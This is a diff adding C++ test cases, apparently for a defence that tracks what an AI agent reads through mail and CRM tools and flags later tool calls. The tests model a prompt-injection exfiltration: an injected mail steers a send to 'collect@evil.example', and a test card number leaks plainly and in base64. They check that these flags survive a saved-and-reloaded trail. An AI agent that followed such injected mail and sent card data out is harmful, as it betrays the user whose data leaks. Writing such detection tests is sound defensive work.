@@ -291,3 +291,44 @@ TEST_CASE("a mark explains itself") {
                          "gave: mail/read, "
                          "read at "));
 }
+
+TEST_CASE("a restart launders nothing") {
+  Talk talk;
+  talk.call(R"({"to":"boss@ours.example"})");
+  talk.mail(injected);
+  talk.mail("write to boss@ours.example");
+  talk.crm("card 4929 1234 5678 9012 of Ana");
+  const std::string saved = talk.trail.save(talk.now);
+  auto again = Trail::load(saved, Limits{}, Key{});
+  REQUIRE(again.has_value());
+  CHECK(again->save(talk.now) == saved);
+  Talk after;
+  after.trail = *std::move(again);
+  after.now = talk.now;
+  for (Talk* one : {&talk, &after}) {
+    CHECK(one->call(R"({"to":"collect@evil.example"})").has(What::steered));
+    CHECK(one->call(R"({"to":"boss@ours.example"})").marks.empty());  // the client's own
+    CHECK(one->call(R"({"body":"4929123456789012"})").has(What::sensitive));
+    CHECK(one->call(R"({"body":"NDkyOSAxMjM0IDU2NzggOTAxMg=="})").has(What::sensitive));
+  }
+  // Under another key it says nothing, and what has expired is not saved.
+  CHECK(Trail::load(saved, Limits{}, Key{0x1234567})
+            .value()
+            .before(parsed(R"({"to":"collect@evil.example"})").root(), {"post", "send", true},
+                    talk.now)
+            .marks.empty());
+  CHECK(talk.trail.save(talk.now + 9h).size() < saved.size());
+  for (const std::string_view bad : {"", "[", R"({"texts":"%"})", R"({"texts":"AAAA"})",
+                                     // an untrusted one of no source
+                                     R"({"values":"AQAAAAAAAAABAAAABAAA"})"})
+    CHECK_FALSE(Trail::load(bad, Limits{}, Key{}).has_value());
+  CHECK(Trail::load("{}", Limits{}, Key{}).has_value());
+}
+
+TEST_CASE("what is saved has a bound") {
+  Talk talk;
+  std::string flood;
+  for (int i = 0; i < 200'000; ++i) flood += std::format("user{}@spam{}.example ", i, i * 7919);
+  for (std::size_t at = 0; at < flood.size(); at += 200'000) talk.mail(flood.substr(at, 200'000));
+  CHECK(talk.trail.save(talk.now).size() < 700'000);
+}
